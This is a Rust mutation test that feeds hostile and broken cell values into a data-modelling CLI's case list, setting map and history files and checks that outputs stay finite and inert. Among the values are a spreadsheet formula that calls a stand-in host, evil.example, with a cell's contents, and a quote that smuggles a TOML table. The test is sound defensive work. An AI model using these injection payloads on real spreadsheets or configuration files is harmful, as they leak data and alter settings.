//! Mutation test of the shipped data files (issue 30, "Hostile and broken inputs"), modelled on
//! `mutations.rs` (which does the same for the scenarios). Cells of
//!
//! - the case list `data/cases-example.csv`, as CSV and as an XLSX written here (numbers as number
//!   cells, other text as text cells, the formula as a real formula cell), run through
//!   `dsg baseline <cases> --as-at 2026-03-31 --mapping data/setting-map.csv --out out`;
//! - the setting map `data/setting-map.csv` (the same command, the case list unchanged);
//! - the history `data/england-ehcp.csv`, run through `dsg backtest` (100 paths; charts drawn by
//!   every fourth run) and `dsg calibrate`
//!
//! are replaced in turn by each of [`VALUES`]: `nan`, `inf`, `1e308`, `-1`, an empty cell, a
//! formula (`=HYPERLINK("http://evil.example/?"&A1,"x")`), a quote with new lines
//! (`x"` newline `[scenario]` newline `name = "pwned"` newline `#`) and 10 KB of text. Which
//! cells: for the case list, every cell of the header and of a few rows (the first three and the
//! last), plus one cell of every other row (its column and value cycling, so that every column
//! meets every value); every cell of the setting map and of the history.
//!
//! Every run must end in one of two ways:
//!
//! - exit 0 with finite, inert outputs: in every CSV written, the columns that hold numbers in the
//!   unmutated run hold finite numbers (or nothing), no cell is `NaN` or `inf` as Rust writes
//!   them (unless that is the text put in), and no text cell begins with `=`, `+`, `-` or `@`
//!   unless it is a finite number (a spreadsheet would run it); every JSON number finite and no
//!   `null` but under keys that are `null` in the unmutated run; every TOML written parses, its
//!   floats are finite and its top-level tables are those of the unmutated run (no `[scenario]`
//!   table written by a quote in a cell); every number in an XLSX written finite; the HTML report
//!   without a `<script>`; no `NaN` in stdout, the HTML or an SVG chart; the 10 KB text never
//!   echoed whole (no 1,000 characters of it in any output, stdout or stderr); or
//! - exit 2, with the file, the row (its line) and the column named on stderr, nothing on stdout.
//!
//! Either way nothing is left beside `--out` (no hidden staging folder). Anything else (exit 1, a
//! signal, `panicked`) fails; failures are collected over the whole matrix and reported together.
//! [`MIN_RUNS`] and the per-surface floors keep the matrix from passing with nothing to test.
//!
//! Speed (two cores shared with another build): a baseline run takes about 12 ms, a backtest
//! 13 ms (65 ms with charts), a calibration 10 ms; the 2,746 runs (785 case-list runs each as CSV
//! and XLSX, 216 setting-map runs, 960 history runs) take 34 to 40 s on two threads. Measured:
//! 1,770 ran (exit 0) and 976 were refused (exit 2; all the header mutations of the case list and
//! setting map, most history mutations). On the code before issue 30's fault 5 was fixed (commit
//! 0af49e4), 282 runs failed: 59 of the CSV case list, 3 of the XLSX, 32 of the setting map, 188
//! of the history (1e308 and the like written as NaN or `null`, headers after comment lines
//! named as line or row 1, 10 KB header and setting-map text echoed into the terminal,
//! quality.html and dfe-tables.csv).

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::time::Instant;

use calamine::{Data, Reader, Xlsx, open_workbook};
use common::{Run, dsg_in, names_in, read, repo_root, tempdir};
use serde_json::Value;

/// What each cell is replaced by, in turn: a label and the text.
fn values() -> [(&'static str, String); 8] {
    [
        ("nan", "nan".into()),
        ("inf", "inf".into()),
        ("1e308", "1e308".into()),
        ("-1", "-1".into()),
        ("empty", String::new()),
        (
            "formula",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into(),
        ),
        ("quote", "x\"\n[scenario]\nname = \"pwned\"\n#".into()),
        ("10KB", LONG.repeat(10_240 / LONG.len())),
    ]
}

/// The labels of [`values`], for the module's documentation and reports.
const VALUES: [&str; 8] = [
    "nan", "inf", "1e308", "-1", "empty", "formula", "quote", "10KB",
];

/// The 10 KB text is this, repeated.
const LONG: &str = "hostile-";

/// No output may hold this many characters of the 10 KB text.
const ECHO: usize = 1_000;

/// Threads running mutations side by side.
const THREADS: usize = 2;

/// Rows (after the header) every cell of which is mutated, besides the last row.
const FULL_ROWS: usize = 3;

/// At least this many runs in all, and on each surface.
const MIN_RUNS: usize = 2_000;
const MIN_CASE_RUNS: usize = 700;
const MIN_MAP_RUNS: usize = 200;
const MIN_HISTORY_RUNS: usize = 800;

/// How many failures are listed in full (all are counted).
const LISTED: usize = 40;

/// A CSV file read into its leading comment lines and its records (the header first).
#[derive(Clone)]
struct Table {
    /// Lines before the header (comments), as written.
    comments: Vec<String>,
    /// The header, then the rows.
    rows: Vec<Vec<String>>,
}

impl Table {
    fn load(name: &str) -> Table {
        let text = read(&repo_root().join("data").join(name));
        let comments: Vec<String> = text
            .lines()
            .take_while(|l| l.starts_with('#'))
            .map(String::from)
            .collect();
        let body: String = text
            .lines()
            .skip(comments.len())
            .map(|l| format!("{l}\n"))
            .collect();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(body.as_bytes());
        let rows = reader
            .records()
            .map(|r| {
                r.unwrap_or_else(|e| panic!("{name}: {e}"))
                    .iter()
                    .map(String::from)
                    .collect()
            })
            .collect();
        Table { comments, rows }
    }

    /// The line of the file row `r` (0 = the header) starts on, when no earlier cell spans lines.
    fn line(&self, r: usize) -> usize {
        self.comments.len() + 1 + r
    }

    /// The table as CSV text (cells quoted where they need it).
    fn csv(&self) -> Vec<u8> {
        let mut out = Vec::new();
        for c in &self.comments {
            out.extend_from_slice(c.as_bytes());
            out.push(b'\n');
        }
        let mut w = csv::WriterBuilder::new()
            .flexible(true)
            .from_writer(Vec::new());
        for r in &self.rows {
            w.write_record(r)
                .unwrap_or_else(|e| panic!("cannot write CSV: {e}"));
        }
        out.extend(
            w.into_inner()
                .unwrap_or_else(|e| panic!("cannot write CSV: {e}")),
        );
        out
    }

    /// The table as an XLSX workbook: the header on row 1, numbers as number cells, a formula as
    /// a formula cell, empty cells not written, other text as text.
    fn xlsx(&self) -> Vec<u8> {
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        for (r, row) in self.rows.iter().enumerate() {
            for (c, cell) in row.iter().enumerate() {
                let (r, c) = (r as u32, c as u16);
                let written = if cell.is_empty() {
                    Ok(&mut *sheet)
                } else if let Some(formula) = cell.strip_prefix('=') {
                    sheet.write_formula(r, c, formula)
                } else if let Some(x) = cell.parse::<f64>().ok().filter(|x| x.is_finite()) {
                    sheet.write_number(r, c, x)
                } else {
                    sheet.write_string(r, c, cell)
                };
                written.unwrap_or_else(|e| panic!("cannot write a cell: {e}"));
            }
        }
        book.save_to_buffer()
            .unwrap_or_else(|e| panic!("cannot write XLSX: {e}"))
    }
}

/// Which input a case mutates, and how the file is written.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Surface {
    CasesCsv,
    CasesXlsx,
    Mapping,
    History,
}

/// One mutated file and the command to run on it.
struct Case {
    surface: Surface,
    /// The mutated file's name and bytes.
    file: String,
    bytes: Vec<u8>,
    /// The other input files (name, bytes) the command reads.
    others: Vec<(String, Vec<u8>)>,
    /// The command's arguments (the files by name, `--out out`).
    args: Vec<String>,
    /// The row as the error must name it (the line of a CSV, the spreadsheet row of an XLSX),
    /// the column's header, whether the header itself was mutated, and the value's label.
    row: usize,
    column: String,
    header: bool,
    value: &'static str,
}

impl Case {
    fn label(&self) -> String {
        format!(
            "{:?} {} row {} column `{}` = {}",
            self.surface, self.file, self.row, self.column, self.value
        )
    }
}

/// The cells mutated in a table (row, column, value): with `sample`, every cell of the header,
/// of the first [`FULL_ROWS`] rows and of the last, and one cell of each other row (column and
/// value cycling); without, every cell.
fn cells(table: &Table, sample: bool) -> Vec<(usize, usize, usize)> {
    let n = table.rows.len();
    let width = table.rows[0].len();
    let mut out = Vec::new();
    for r in 0..n {
        let full = !sample || r <= FULL_ROWS || r == n - 1;
        if full {
            for c in 0..width {
                for v in 0..VALUES.len() {
                    out.push((r, c, v));
                }
            }
        } else {
            out.push((r, r % width, (r / width) % VALUES.len()));
        }
    }
    out
}

/// The baseline command's arguments.
fn baseline_args(cases: &str) -> Vec<String> {
    [
        "baseline",
        cases,
        "--as-at",
        "2026-03-31",
        "--mapping",
        "map.csv",
        "--out",
        "out",
    ]
    .map(String::from)
    .to_vec()
}

/// Every case of the matrix.
fn all_cases() -> Vec<Case> {
    let cases = Table::load("cases-example.csv");
    let map = Table::load("setting-map.csv");
    let history = Table::load("england-ehcp.csv");
    let values = values();
    let mut out = Vec::new();
    let mutate = |table: &Table, r: usize, c: usize, v: usize| {
        let mut t = table.clone();
        t.rows[r][c] = values[v].1.clone();
        t
    };
    let case =
        |surface, file: &str, bytes, others, args, row, t: &Table, c: usize, v: usize| Case {
            surface,
            file: file.to_string(),
            bytes,
            others,
            args,
            row,
            column: t.rows[0][c].clone(),
            header: row == t.line(0) || (surface == Surface::CasesXlsx && row == 1),
            value: VALUES[v],
        };
    let map_file = || vec![("map.csv".to_string(), map.csv())];
    for (r, c, v) in cells(&cases, true) {
        let t = mutate(&cases, r, c, v);
        out.push(case(
            Surface::CasesCsv,
            "cases.csv",
            t.csv(),
            map_file(),
            baseline_args("cases.csv"),
            cases.line(r),
            &cases,
            c,
            v,
        ));
        out.push(case(
            Surface::CasesXlsx,
            "cases.xlsx",
            t.xlsx(),
            map_file(),
            baseline_args("cases.xlsx"),
            r + 1,
            &cases,
            c,
            v,
        ));
    }
    for (r, c, v) in cells(&map, false) {
        let t = mutate(&map, r, c, v);
        out.push(case(
            Surface::Mapping,
            "map.csv",
            t.csv(),
            vec![("cases.csv".to_string(), cases.csv())],
            baseline_args("cases.csv"),
            map.line(r),
            &map,
            c,
            v,
        ));
    }
    for (i, (r, c, v)) in cells(&history, false).into_iter().enumerate() {
        let t = mutate(&history, r, c, v);
        let mut backtest: Vec<String> = ["backtest", "history.csv", "--paths", "100"]
            .map(String::from)
            .to_vec();
        if i % 4 != 0 {
            backtest.push("--no-charts".into());
        }
        for args in [
            backtest,
            ["calibrate", "history.csv"].map(String::from).to_vec(),
        ] {
            let mut args = args;
            args.extend(["--out".to_string(), "out".to_string()]);
            out.push(case(
                Surface::History,
                "history.csv",
                t.csv(),
                vec![],
                args,
                history.line(r),
                &history,
                c,
                v,
            ));
        }
    }
    out
}

/// What the unmutated run of a command wrote: per CSV file the columns holding numbers; the JSON
/// keys that hold `null`; per TOML file its top-level keys.
#[derive(Default, Clone)]
struct Reference {
    numeric: BTreeMap<String, BTreeSet<String>>,
    nulls: BTreeSet<String>,
    tables: BTreeMap<String, BTreeSet<String>>,
}

impl Reference {
    fn of(out: &Path) -> Reference {
        let mut r = Reference::default();
        for name in names_in(out) {
            let path = out.join(&name);
            if name.ends_with(".csv") {
                let (header, rows) = csv_rows(&path);
                let numeric = header
                    .iter()
                    .enumerate()
                    .filter(|(i, _)| {
                        let cells: Vec<&String> = rows
                            .iter()
                            .filter_map(|row| row.get(*i))
                            .filter(|c| !c.is_empty())
                            .collect();
                        !cells.is_empty()
                            && cells
                                .iter()
                                .all(|c| c.parse::<f64>().is_ok_and(f64::is_finite))
                    })
                    .map(|(_, h)| h.clone())
                    .collect();
                r.numeric.insert(name, numeric);
            } else if name.ends_with(".json") {
                json_nulls(&common::json(&path), "", &mut r.nulls);
            } else if name.ends_with(".toml") {
                let value: toml::Table = read(&path)
                    .parse()
                    .unwrap_or_else(|e| panic!("{name} is not TOML: {e}"));
                r.tables.insert(name, value.keys().cloned().collect());
            }
        }
        r
    }
}

/// A CSV file's header and rows.
fn csv_rows(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::ReaderBuilder::new()
        .flexible(true)
        .from_path(path)
        .unwrap_or_else(|e| panic!("cannot read {}: {e}", path.display()));
    let header = reader
        .headers()
        .map(|h| h.iter().map(String::from).collect())
        .unwrap_or_default();
    let rows = reader
        .records()
        .filter_map(Result::ok)
        .map(|r| r.iter().map(String::from).collect())
        .collect();
    (header, rows)
}

/// The keys under which `value` holds `null` (collected), or, with `allowed`, the problems.
fn json_nulls(value: &Value, key: &str, out: &mut BTreeSet<String>) {
    match value {
        Value::Null => {
            out.insert(key.to_string());
        }
        Value::Array(a) => a.iter().for_each(|v| json_nulls(v, key, out)),
        Value::Object(o) => o.iter().for_each(|(k, v)| json_nulls(v, k, out)),
        _ => {}
    }
}

/// Numbers in a JSON value that are not finite (serde_json cannot hold them, but check anyway).
fn json_non_finite(value: &Value) -> bool {
    match value {
        Value::Number(n) => n.as_f64().is_some_and(|x| !x.is_finite()),
        Value::Array(a) => a.iter().any(json_non_finite),
        Value::Object(o) => o.values().any(json_non_finite),
        _ => false,
    }
}

/// A TOML value with a float that is not finite.
fn toml_non_finite(value: &toml::Value) -> bool {
    match value {
        toml::Value::Float(x) => !x.is_finite(),
        toml::Value::Array(a) => a.iter().any(toml_non_finite),
        toml::Value::Table(t) => t.values().any(toml_non_finite),
        _ => false,
    }
}

/// Whether `text` holds Rust's spelling of a non-finite number as a word: `NaN` always; `inf`
/// unless the text put in was `inf`.
fn non_finite_word(text: &str, case: &Case) -> Option<String> {
    text.split(|c: char| !c.is_ascii_alphanumeric())
        .find(|w| *w == "NaN" || (*w == "inf" && case.value != "inf"))
        .map(String::from)
}

/// A CSV cell a spreadsheet would run as a formula.
fn formula_like(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
        && !cell.trim().parse::<f64>().is_ok_and(f64::is_finite)
}

/// What is wrong with a run that exited 0.
fn ran_problems(dir: &Path, case: &Case, run: &Run, reference: &Reference) -> Vec<String> {
    let mut problems = Vec::new();
    let out = dir.join("out");
    let echo = &values()[7].1[..ECHO];
    if let Some(w) = non_finite_word(&run.stdout, case) {
        problems.push(format!("stdout shows `{w}`"));
    }
    if run.stdout.contains(echo) || run.stderr.contains(echo) {
        problems.push("the 10 KB text is echoed on the terminal".into());
    }
    if !out.is_dir() {
        problems.push("no out folder".into());
        return problems;
    }
    for name in names_in(&out) {
        let path = out.join(&name);
        let bytes = std::fs::read(&path).unwrap_or_default();
        let text = String::from_utf8_lossy(&bytes);
        if text.contains(echo) {
            problems.push(format!("{name} echoes the 10 KB text"));
        }
        if name.ends_with(".csv") {
            csv_problems(&path, &name, case, reference, &mut problems);
        } else if name.ends_with(".json") {
            match serde_json::from_str::<Value>(&text) {
                Ok(v) => {
                    let mut nulls = BTreeSet::new();
                    json_nulls(&v, "", &mut nulls);
                    for k in nulls.difference(&reference.nulls) {
                        problems.push(format!("{name}: `{k}` is null"));
                    }
                    if json_non_finite(&v) {
                        problems.push(format!("{name}: a number is not finite"));
                    }
                }
                Err(e) => problems.push(format!("{name} is not JSON: {e}")),
            }
        } else if name.ends_with(".toml") {
            match text.parse::<toml::Table>() {
                Ok(t) => {
                    if toml_non_finite(&toml::Value::Table(t.clone())) {
                        problems.push(format!("{name}: a float is not finite"));
                    }
                    let keys: BTreeSet<String> = t.keys().cloned().collect();
                    let expected = reference.tables.get(&name).cloned().unwrap_or_default();
                    for k in keys.difference(&expected) {
                        problems.push(format!("{name}: an extra table `{k}`"));
                    }
                }
                Err(e) => problems.push(format!("{name} is not TOML: {e}")),
            }
        } else if name.ends_with(".xlsx") {
            xlsx_problems(&path, &name, &mut problems);
        } else if name.ends_with(".html") || name.ends_with(".svg") {
            if let Some(w) = non_finite_word(&text, case) {
                problems.push(format!("{name} shows `{w}`"));
            }
            if name.ends_with(".html") && text.to_ascii_lowercase().contains("<script") {
                problems.push(format!("{name} holds a script"));
            }
        }
    }
    problems
}

fn csv_problems(
    path: &Path,
    name: &str,
    case: &Case,
    reference: &Reference,
    problems: &mut Vec<String>,
) {
    let (header, rows) = csv_rows(path);
    let numeric = reference.numeric.get(name).cloned().unwrap_or_default();
    for (i, row) in rows.iter().enumerate() {
        for (cell, column) in row.iter().zip(&header) {
            let bad = if numeric.contains(column) {
                !cell.is_empty() && !cell.parse::<f64>().is_ok_and(f64::is_finite)
            } else {
                non_finite_word(cell, case).is_some_and(|w| cell.trim() == w)
            };
            if bad {
                problems.push(format!("{name} row {}: `{column}` is {cell:?}", i + 2));
            }
            if formula_like(cell) {
                let shown: String = cell.chars().take(40).collect();
                problems.push(format!(
                    "{name} row {}: `{column}` would run as a formula: {shown:?}",
                    i + 2
                ));
            }
        }
    }
}

fn xlsx_problems(path: &Path, name: &str, problems: &mut Vec<String>) {
    let mut book: Xlsx<_> = match open_workbook(path) {
        Ok(b) => b,
        Err(e) => {
            problems.push(format!("{name} cannot be opened: {e}"));
            return;
        }
    };
    for sheet in book.sheet_names() {
        let Ok(range) = book.worksheet_range(&sheet) else {
            problems.push(format!("{name}: sheet {sheet} cannot be read"));
            continue;
        };
        for (r, c, cell) in range.used_cells() {
            if let Data::Float(x) = cell
                && !x.is_finite()
            {
                problems.push(format!("{name} {sheet} ({r}, {c}) is {x}"));
            }
        }
    }
}

/// What is wrong with a run that exited 2.
fn refused_problems(case: &Case, run: &Run) -> Vec<String> {
    let mut problems = Vec::new();
    if !run.stdout.is_empty() {
        problems.push("stdout is not empty".into());
    }
    let err = &run.stderr;
    if !err.contains(&case.file) {
        problems.push("the error does not name the file".into());
    }
    let row = case.row;
    let names_row = [
        format!(", row {row}:"),
        format!(", row {row} "),
        format!(":{row}:"),
    ]
    .iter()
    .any(|p| err.contains(p.as_str()));
    if !names_row {
        problems.push(format!("the error does not name row (line) {row}"));
    }
    let names_column = err.contains(&format!("`{}`", case.column))
        || (case.header && (err.contains("column") || err.contains("header")));
    if !names_column {
        problems.push(format!("the error does not name column `{}`", case.column));
    }
    if err.contains(&values()[7].1[..ECHO]) {
        problems.push("the error echoes the 10 KB text".into());
    }
    problems
}

/// Runs `case` in a fresh folder under `root`: the outcome (`true`: ran) or what is wrong.
fn run_case(root: &Path, index: usize, case: &Case, reference: &Reference) -> Result<bool, String> {
    let dir = root.join(index.to_string());
    std::fs::create_dir(&dir).map_err(|e| format!("cannot make {}: {e}", dir.display()))?;
    std::fs::write(dir.join(&case.file), &case.bytes).map_err(|e| e.to_string())?;
    for (name, bytes) in &case.others {
        std::fs::write(dir.join(name), bytes).map_err(|e| e.to_string())?;
    }
    let args: Vec<&str> = case.args.iter().map(String::as_str).collect();
    let run = dsg_in(&dir, &args);
    let mut problems = if run.stderr.contains("panicked") {
        vec!["dsg panicked".to_string()]
    } else {
        match run.code {
            Some(0) => ran_problems(&dir, case, &run, reference),
            Some(2) => refused_problems(case, &run),
            _ => vec!["exit code is neither 0 nor 2".to_string()],
        }
    };
    let mut expected: Vec<String> = std::iter::once(case.file.clone())
        .chain(case.others.iter().map(|(n, _)| n.clone()))
        .chain((run.code == Some(0)).then(|| "out".to_string()))
        .collect();
    expected.sort();
    let left = names_in(&dir);
    if left != expected {
        problems.push(format!("the folder holds {left:?}"));
    }
    if problems.is_empty() {
        let _ = std::fs::remove_dir_all(&dir);
        return Ok(run.code == Some(0));
    }
    let stderr: String = run
        .stderr
        .lines()
        .take(4)
        .map(|l| {
            let l: String = l.chars().take(300).collect();
            format!("\n    {l}")
        })
        .collect();
    let _ = std::fs::remove_dir_all(&dir);
    Err(format!(
        "{} ({}): exit {:?}\n  - {}\n  stderr:{stderr}",
        case.label(),
        case.args.join(" "),
        run.code,
        problems.join("\n  - ")
    ))
}

/// Input files by name.
type Files = Vec<(&'static str, Vec<u8>)>;

/// The unmutated run of each command, as a reference (it must run cleanly).
fn references(root: &Path) -> BTreeMap<String, Reference> {
    let cases = Table::load("cases-example.csv");
    let map = Table::load("setting-map.csv");
    let history = Table::load("england-ehcp.csv");
    let mut out = BTreeMap::new();
    let runs: [(&str, Files, Vec<&str>); 4] = [
        (
            "baseline-csv",
            vec![("cases.csv", cases.csv()), ("map.csv", map.csv())],
            vec![
                "baseline",
                "cases.csv",
                "--as-at",
                "2026-03-31",
                "--mapping",
                "map.csv",
            ],
        ),
        (
            "baseline-xlsx",
            vec![("cases.xlsx", cases.xlsx()), ("map.csv", map.csv())],
            vec![
                "baseline",
                "cases.xlsx",
                "--as-at",
                "2026-03-31",
                "--mapping",
                "map.csv",
            ],
        ),
        (
            "backtest",
            vec![("history.csv", history.csv())],
            vec!["backtest", "history.csv", "--paths", "100"],
        ),
        (
            "calibrate",
            vec![("history.csv", history.csv())],
            vec!["calibrate", "history.csv"],
        ),
    ];
    for (label, files, args) in runs {
        let dir = root.join(format!("reference-{label}"));
        std::fs::create_dir(&dir).unwrap_or_else(|e| panic!("{e}"));
        for (name, bytes) in files {
            std::fs::write(dir.join(name), bytes).unwrap_or_else(|e| panic!("{e}"));
        }
        let mut args = args;
        args.extend(["--out", "out"]);
        dsg_in(&dir, &args).expect_code(0);
        out.insert(label.to_string(), Reference::of(&dir.join("out")));
    }
    out
}

/// The reference a case's outputs are compared with.
fn reference_for<'r>(case: &Case, refs: &'r BTreeMap<String, Reference>) -> &'r Reference {
    let key = match (case.surface, case.args[0].as_str()) {
        (Surface::CasesXlsx, _) => "baseline-xlsx",
        (Surface::History, "backtest") => "backtest",
        (Surface::History, _) => "calibrate",
        _ => "baseline-csv",
    };
    &refs[key]
}

#[test]
fn every_mutation_of_the_shipped_data_runs_cleanly_or_is_refused_by_file_row_and_column() {
    let start = Instant::now();
    let root = tempdir();
    let refs = references(root.path());
    let cases = all_cases();
    let count = |s: Surface| cases.iter().filter(|c| c.surface == s).count();
    let (csv, xlsx, map, history) = (
        count(Surface::CasesCsv),
        count(Surface::CasesXlsx),
        count(Surface::Mapping),
        count(Surface::History),
    );
    assert!(cases.len() >= MIN_RUNS, "only {} runs", cases.len());
    assert!(
        csv >= MIN_CASE_RUNS && xlsx >= MIN_CASE_RUNS,
        "{csv} {xlsx}"
    );
    assert!(map >= MIN_MAP_RUNS, "{map}");
    assert!(history >= MIN_HISTORY_RUNS, "{history}");
    let results: Vec<(Surface, Result<bool, String>)> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..THREADS)
            .map(|t| {
                let (cases, refs, root) = (&cases, &refs, root.path());
                s.spawn(move || {
                    cases
                        .iter()
                        .enumerate()
                        .filter(|(i, _)| i % THREADS == t)
                        .map(|(i, c)| (c.surface, run_case(root, i, c, reference_for(c, refs))))
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        handles
            .into_iter()
            .flat_map(|h| h.join().unwrap_or_else(|_| panic!("a thread panicked")))
            .collect()
    });
    let mut tally: BTreeMap<String, [usize; 3]> = BTreeMap::new();
    let mut failures = Vec::new();
    for (surface, r) in results {
        let t = tally.entry(format!("{surface:?}")).or_default();
        match r {
            Ok(true) => t[0] += 1,
            Ok(false) => t[1] += 1,
            Err(e) => {
                t[2] += 1;
                failures.push(e);
            }
        }
    }
    eprintln!(
        "{} runs in {:.1} s (ran, refused, failed by surface): {tally:?}",
        cases.len(),
        start.elapsed().as_secs_f64()
    );
    let listed: Vec<&String> = failures.iter().take(LISTED).collect();
    assert!(
        failures.is_empty(),
        "{} of {} runs failed:\n{}",
        failures.len(),
        cases.len(),
        listed
            .iter()
            .map(|s| s.as_str())
            .collect::<Vec<_>>()
            .join("\n")
    );
    let ran: usize = tally.values().map(|t| t[0]).sum();
    let refused: usize = tally.values().map(|t| t[1]).sum();
    assert!(ran >= 500, "only {ran} mutations ran to the end");
    assert!(refused >= 300, "only {refused} mutations were refused");
}

#[test]
fn the_checks_catch_what_they_are_for() {
    let case = Case {
        surface: Surface::CasesCsv,
        file: "cases.csv".into(),
        bytes: vec![],
        others: vec![],
        args: vec![],
        row: 4,
        column: "annual_cost".into(),
        header: false,
        value: "nan",
    };
    assert!(formula_like("=HYPERLINK(\"x\")"));
    assert!(formula_like("-inf") && formula_like("@SUM(A1)") && formula_like("+x"));
    assert!(!formula_like("-1") && !formula_like("'=1+1") && !formula_like("12"));
    assert_eq!(non_finite_word("mean NaN here", &case), Some("NaN".into()));
    assert_eq!(non_finite_word("cost inf", &case), Some("inf".into()));
    assert_eq!(non_finite_word("a nan infant", &case), None);
    let refused = |stderr: &str| {
        refused_problems(
            &case,
            &Run {
                code: Some(2),
                stdout: String::new(),
                stderr: stderr.into(),
            },
        )
    };
    assert!(refused("error: cases.csv, row 4: column `annual_cost`: not a number").is_empty());
    assert_eq!(
        refused("error: cases.csv, row 5: column `annual_cost`: x").len(),
        1
    );
    assert_eq!(refused("error: something went wrong").len(), 3);
    let t = Table::load("england-ehcp.csv");
    assert_eq!(t.rows[0], ["series", "year", "value", "break", "source"]);
    // The header is on line 8 of the shipped history, after 7 comment lines.
    assert_eq!(t.line(0), 8);
    assert_eq!(t.rows.len(), 12);
    assert_eq!(cells(&t, false).len(), 12 * 5 * 8);
    let c = Table::load("cases-example.csv");
    assert_eq!(c.rows.len(), 390);
    // Header, 3 full rows and the last: 5 x 10 x 8; one cell of each of the other 385 rows.
    assert_eq!(cells(&c, true).len(), 400 + 385);
}
